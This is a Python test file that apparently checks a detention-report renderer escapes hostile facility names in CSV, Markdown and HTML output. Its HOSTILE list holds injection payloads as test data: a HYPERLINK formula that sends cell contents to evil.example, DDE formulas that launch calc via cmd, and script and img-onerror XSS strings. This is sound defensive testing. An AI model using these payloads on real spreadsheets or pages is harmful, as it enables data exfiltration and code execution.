"""No injection through the report: producer text (facility names, recorded legal bases)
that a spreadsheet would run as a formula, or a Markdown or HTML reader would run as
markup, comes out inert in every format."""

from __future__ import annotations

import csv
import io
import sys
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from holdwatch.app.report import Period, Report
from holdwatch.app.report_render import RENDERERS
from holdwatch.app.report_sources import from_lines
from holdwatch.policy.registry import resolve

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
from story import Story

T0 = datetime(2025, 3, 3, 12, tzinfo=UTC)
YEAR = Period(datetime(2025, 1, 1, tzinfo=UTC), datetime(2026, 1, 1, tzinfo=UTC))

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # full-width equals sign
    "<script>alert('facility')</script>",
    "<img src=x onerror=alert(1)>",
    "Jail | injected | cells",
    "`code` and ``more``",
    "[click me](http://evil.example)",
    "**bold** _em_ ~~gone~~",
    "two\nlines ## heading",
    "back\\slash \\| pipe",
    "R&D <b>bold</b> &amp;",
    "$\\frac{1}{2}$ math",  # a chart's tick label: matplotlib must not parse it as TeX
]


def _report(name: str) -> Report:
    def at(hours: float) -> str:
        return (T0 + timedelta(hours=hours)).isoformat()

    story = (
        Story(booking="H1")
        .booked(at(0), facility=name)
        .detainer(at(1))
        .eligible(at(2))
        .released(at(8), to="ice", basis=name)  # a recorded legal basis: an item cell
    )
    report = from_lines(story.jsonl().encode().splitlines(), resolve("ca-sb54"), T0, YEAR)
    assert [f for _a, f in report.rows] == [name]
    return report


@pytest.mark.parametrize("name", HOSTILE)
def test_csv_cells_never_start_a_formula_and_every_field_is_quoted(name: str) -> None:
    text = RENDERERS["csv"](_report(name))
    rows = list(csv.reader(io.StringIO(text)))
    cells = [c for row in rows for c in row]
    risky = tuple("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
    assert not [c for c in cells if c.startswith(risky)]
    assert rows[1][1] == ("'" + name if name.startswith(risky) else name)
    assert any(row[3] == rows[1][1] for row in rows)  # the basis cell, likewise
    again = io.StringIO()
    csv.writer(again, lineterminator="\n", quoting=csv.QUOTE_ALL).writerows(rows)
    assert text == again.getvalue()  # every field quoted


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def _tags(html: str) -> tuple[set[str], str]:
    parser = _Tags()
    parser.feed(html)
    return parser.tags, "".join(parser.text)


@pytest.mark.parametrize("name", HOSTILE)
def test_markdown_renders_a_hostile_name_as_its_own_text(name: str) -> None:
    """Rendered by a CommonMark reader that passes raw HTML through, with GFM tables."""
    source = RENDERERS["md"](_report(name))
    html = MarkdownIt("commonmark").enable("table").render(source)
    tags, text = _tags(html)
    assert tags <= {"h1", "h2", "ul", "li", "p", "table", "thead", "tbody", "tr", "th", "td"}
    shown, text = " ".join(name.split()), " ".join(text.split())  # as whitespace, alike
    assert f"lasd — {shown}" in text  # the heading
    assert f"{shown} 1" in text  # the basis, an item cell followed by its count
    columns = 0
    for line in source.splitlines():  # no pipe in a name split a cell
        if not line.startswith("|"):
            columns = 0
        elif columns == 0:
            columns = len(md_cells(line))
        else:
            assert len(md_cells(line)) == columns, line


def md_cells(line: str) -> list[str]:
    """A GFM row's cells: split on pipes not escaped by a backslash."""
    cells, cell, escaped = [], "", False
    for ch in line.strip()[1:-1]:
        if ch == "|" and not escaped:
            cells.append(cell)
            cell = ""
        else:
            cell += ch
        escaped = ch == "\\" and not escaped
    return [*cells, cell]


@pytest.mark.parametrize("name", HOSTILE)
def test_the_html_report_escapes_a_hostile_name(name: str) -> None:
    """The document (and its charts' SVG, where facility names are tick labels) has the
    same elements with a hostile name as with a plain one: the name added none."""
    tags, text = _tags(RENDERERS["html"](_report(name)))
    plain, _ = _tags(RENDERERS["html"](_report("Men's Central Jail")))
    assert tags == plain
    assert not tags & {"script", "img", "b", "iframe", "foreignobject", "object", "embed"}
    assert " ".join(name.split()) in " ".join(text.split())
